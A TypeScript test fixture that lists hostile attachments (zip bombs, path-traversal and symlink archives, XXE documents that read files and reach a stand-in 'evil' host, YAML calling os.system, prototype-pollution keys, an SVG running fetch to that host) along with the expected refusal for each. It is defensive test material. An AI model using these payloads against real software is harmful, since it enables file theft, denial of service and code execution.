// Hostile files for the jobs of tasks: what a person attaches, what they ask for, and how it has to end.
import {
  bomb,
  cell,
  deepJson,
  docx,
  LAUGHS,
  loopingPdf,
  OUTSIDE,
  png,
  utf8,
  workbook,
  workbookBomb,
  yamlBomb,
  zip,
} from './bytes.ts'

export type HostileFile = {
  id: string
  name: string
  bytes: (evil: string) => Uint8Array
  ask: string
  /** Words of the refusal; or `read` when the file is read and does no harm. */
  end: RegExp | 'read'
}
const CSV = 'Convert the attached file to JSON'
const UNZIP = 'Extract the attached zip archive'
const TEXT = 'Convert the attached file to text'
const rows = '<row r="1">' + cell('A1', 'name') + cell('B1', 'n') + '</row>'

export const HOSTILE_FILES: readonly HostileFile[] = [
  // archives
  { id: 'zip bomb', name: 'bomb.zip', bytes: bomb, ask: UNZIP, end: /expands to more than|larger than/ },
  {
    id: 'zip that climbs out',
    name: 'climb.zip',
    bytes: () => zip([{ name: '../../../pwned.txt', data: utf8('x') }]),
    ask: UNZIP,
    end: /PATH_NOT_ALLOWED|leaves|outside|\.\./,
  },
  {
    id: 'zip with an absolute path',
    name: 'absolute.zip',
    bytes: () => zip([{ name: '/tmp/pwned.txt', data: utf8('x') }]),
    ask: UNZIP,
    end: /path|allowed|read/i,
  },
  {
    id: 'zip with a Windows path',
    name: 'windows.zip',
    bytes: () => zip([{ name: 'C:\\..\\..\\pwned.txt', data: utf8('x') }]),
    ask: UNZIP,
    end: /path|allowed/i,
  },
  {
    id: 'zip with a link',
    name: 'link.zip',
    bytes: () => zip([{ name: 'link', data: utf8('/etc/passwd'), link: true }]),
    ask: UNZIP,
    end: /symbolic link/,
  },
  {
    id: 'zip with a password',
    name: 'locked.zip',
    bytes: () => zip([{ name: 'a.txt', data: utf8('x'), encrypted: true }]),
    ask: UNZIP,
    end: /encrypted/,
  },
  {
    id: 'zip that lies about its size',
    name: 'liar.zip',
    bytes: () => zip([{ name: 'a.txt', data: new Uint8Array(2_000_000), size: 10 }]),
    ask: UNZIP,
    end: /size/,
  },
  {
    id: 'zip with a name twice',
    name: 'twice.zip',
    bytes: () =>
      zip([
        { name: 'a.txt', data: utf8('1') },
        { name: 'a.txt', data: utf8('2') },
      ]),
    ask: UNZIP,
    end: /twice/,
  },
  {
    id: 'zip of too many files',
    name: 'many.zip',
    bytes: () => zip(Array.from({ length: 1_001 }, (_, n) => ({ name: `${n}` }))),
    ask: UNZIP,
    end: /1001 entries/,
  },
  {
    id: 'zip cut in half',
    name: 'half.zip',
    bytes: () => zip([{ name: 'a.txt', data: utf8('x'.repeat(5_000)) }]).slice(0, 60),
    ask: UNZIP,
    end: /no zip archive|cannot be read/,
  },
  {
    id: 'zip in a zip, opened one deep',
    name: 'nested.zip',
    bytes: () => zip([{ name: 'inner.zip', data: bomb() }]),
    ask: UNZIP,
    end: 'read',
  },
  // tables
  {
    id: 'CSV with a field of 5 MB',
    name: 'giant.csv',
    bytes: () => utf8(`a,b\n${'x'.repeat(5_000_000)},1\n`),
    ask: CSV,
    end: 'read',
  },
  {
    id: 'CSV whose quote never closes',
    name: 'open.csv',
    bytes: () => utf8(`a,b\n"${'x,y\n'.repeat(100_000)}`),
    ask: CSV,
    end: 'read',
  },
  { id: 'CSV of NUL', name: 'nul.csv', bytes: () => utf8('a,b\n\u0000,\u0000\n1,2\n'), ask: CSV, end: 'read' },
  {
    id: 'CSV in UTF-16',
    name: 'utf16.csv',
    bytes: () => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('a,b\n1,2\n', 'utf16le')]),
    ask: CSV,
    end: 'read',
  },
  {
    id: 'CSV of broken UTF-8',
    name: 'broken.csv',
    bytes: () => Buffer.from([0x61, 0x2c, 0x62, 0x0a, 0xc3, 0x28, 0xff, 0x2c, 0x31, 0x0a]),
    ask: CSV,
    end: 'read',
  },
  {
    id: 'CSV of 20,000 columns',
    name: 'wide.csv',
    bytes: () => utf8(`${Array.from({ length: 20_000 }, (_, n) => `c${n}`).join(',')}\n`),
    ask: CSV,
    end: 'read',
  },
  {
    id: 'CSV with keys of the language',
    name: 'proto.csv',
    bytes: () => utf8('__proto__,constructor,toString\n1,2,3\n'),
    ask: CSV,
    end: 'read',
  },
  {
    id: 'JSON of 200,000 levels',
    name: 'deep.json',
    bytes: () => deepJson(200_000),
    ask: 'Convert the attached file to CSV',
    end: /JSON|rows|deep|nest/i,
  },
  {
    id: 'JSON cut off',
    name: 'cut.json',
    bytes: () => utf8('[{"a":1},{"a":'),
    ask: 'Convert the attached file to CSV',
    end: /JSON/,
  },
  {
    id: 'JSON with __proto__',
    name: 'proto.json',
    bytes: () => utf8('[{"__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":true}},"a":1}]'),
    ask: 'Convert the attached file to CSV',
    end: 'read',
  },
  { id: 'YAML bomb', name: 'bomb.yaml', bytes: () => utf8(yamlBomb), ask: CSV, end: /alias/i },
  {
    id: 'YAML that wants code',
    name: 'code.yaml',
    bytes: () => utf8('a: !!js/function "function(){ process.exit() }"\nb: !!python/object/apply:os.system ["id"]\n'),
    ask: CSV,
    end: 'read',
  },
  {
    id: 'YAML with __proto__',
    name: 'proto.yaml',
    bytes: () => utf8('- __proto__: {polluted: true}\n  a: 1\n'),
    ask: CSV,
    end: 'read',
  },
  {
    id: 'XML of entities',
    name: 'laughs.xml',
    bytes: () => utf8(`<?xml version="1.0"?>${LAUGHS}<x>&a9;</x>`),
    ask: CSV,
    end: /entities/,
  },
  {
    id: 'XML that reads a file',
    name: 'outside.xml',
    bytes: (evil) => utf8(`<?xml version="1.0"?>${OUTSIDE(evil)}<x>&e;&f;</x>`),
    ask: CSV,
    end: /entities/,
  },
  {
    id: 'XML of 50,000 levels',
    name: 'deep.xml',
    bytes: () => utf8('<a>'.repeat(50_000) + '</a>'.repeat(50_000)),
    ask: CSV,
    end: /XML|nest|deep/i,
  },
  // workbooks and documents
  {
    id: 'workbook of entities',
    name: 'laughs.xlsx',
    bytes: () => workbook(`<row r="1">${cell('A1', '&a9;')}</row>`, LAUGHS),
    ask: CSV,
    end: /read|entit|cells|DOCTYPE/i,
  },
  {
    id: 'workbook that reads a file',
    name: 'outside.xlsx',
    bytes: (evil) => workbook(`<row r="1">${cell('A1', 'x')}${cell('B1', '&e;&f;')}</row>`, OUTSIDE(evil)),
    ask: CSV,
    end: /read|entit|DOCTYPE/i,
  },
  {
    id: 'workbook with a cell at its far end',
    name: 'far.xlsx',
    bytes: () => workbook(`${rows}<row r="1048576">${cell('XFD1048576', 'x')}</row>`),
    ask: CSV,
    end: /spans 1048576 rows/,
  },
  {
    id: 'workbook that claims all rows',
    name: 'dimension.xlsx',
    bytes: () =>
      workbook(`${rows}<row r="2">${cell('A2', 'x')}${cell('B2', '1')}</row>`, '', {
        'xl/comments1.xml': utf8('<x/>'),
      }),
    ask: CSV,
    end: 'read',
  },
  {
    id: 'workbook that is a bomb',
    name: 'bomb.xlsx',
    bytes: () => workbookBomb(320),
    ask: CSV,
    end: /expands to more than/,
  },
  {
    id: 'workbook that is text',
    name: 'text.xlsx',
    bytes: () => utf8('a,b\n1,2\n'),
    ask: CSV,
    end: /no zip|opened|readable/,
  },
  {
    id: 'old workbook of noise',
    name: 'noise.xls',
    bytes: () => Buffer.alloc(5_000, 0xd0),
    ask: CSV,
    end: /readable workbook|read/,
  },
  {
    id: 'document of entities',
    name: 'laughs.docx',
    bytes: () => docx('&a9;', LAUGHS),
    ask: TEXT,
    end: /DOCX|entit|readable/i,
  },
  {
    id: 'document that reads a file',
    name: 'outside.docx',
    bytes: (evil) => docx('&e;&f;', OUTSIDE(evil)),
    ask: TEXT,
    end: /DOCX|entit|readable/i,
  },
  {
    id: 'document with a template elsewhere',
    name: 'template.docx',
    bytes: (evil) =>
      docx('hello', '', {
        'word/_rels/document.xml.rels': utf8(
          `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="${evil}/t.dotm" TargetMode="External"/></Relationships>`,
        ),
      }),
    ask: TEXT,
    end: 'read',
  },
  {
    id: 'document that climbs out',
    name: 'climb.docx',
    bytes: () => docx('hello', '', { '../../pwned.xml': utf8('x') }),
    ask: TEXT,
    end: /path|opened|\.\./i,
  },
  {
    id: 'PDF cut off',
    name: 'cut.pdf',
    bytes: () => utf8('%PDF-1.7\n1 0 obj\n<< /Type /Catalog'),
    ask: TEXT,
    end: /PDF/,
  },
  { id: 'PDF that leads to itself', name: 'loop.pdf', bytes: loopingPdf, ask: TEXT, end: 'read' },
  // pictures
  {
    id: 'picture of 2 billion pixels a side',
    name: 'huge.png',
    bytes: () => png(0x7fffffff, 0x7fffffff),
    ask: 'Read the image metadata of the attached file',
    end: 'read',
  },
  {
    id: 'picture that is a page',
    name: 'page.png',
    bytes: () => utf8('<html><script>alert(1)</script></html>'),
    ask: 'Read the image metadata of the attached file',
    end: /image|picture|header/i,
  },
  {
    id: 'drawing with a script',
    name: 'script.svg',
    bytes: (evil) =>
      utf8(
        `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="fetch('${evil}')"><script>fetch('${evil}')</script><image href="${evil}/x.png"/></svg>`,
      ),
    ask: 'Read the image metadata of the attached file',
    end: 'read',
  },
]
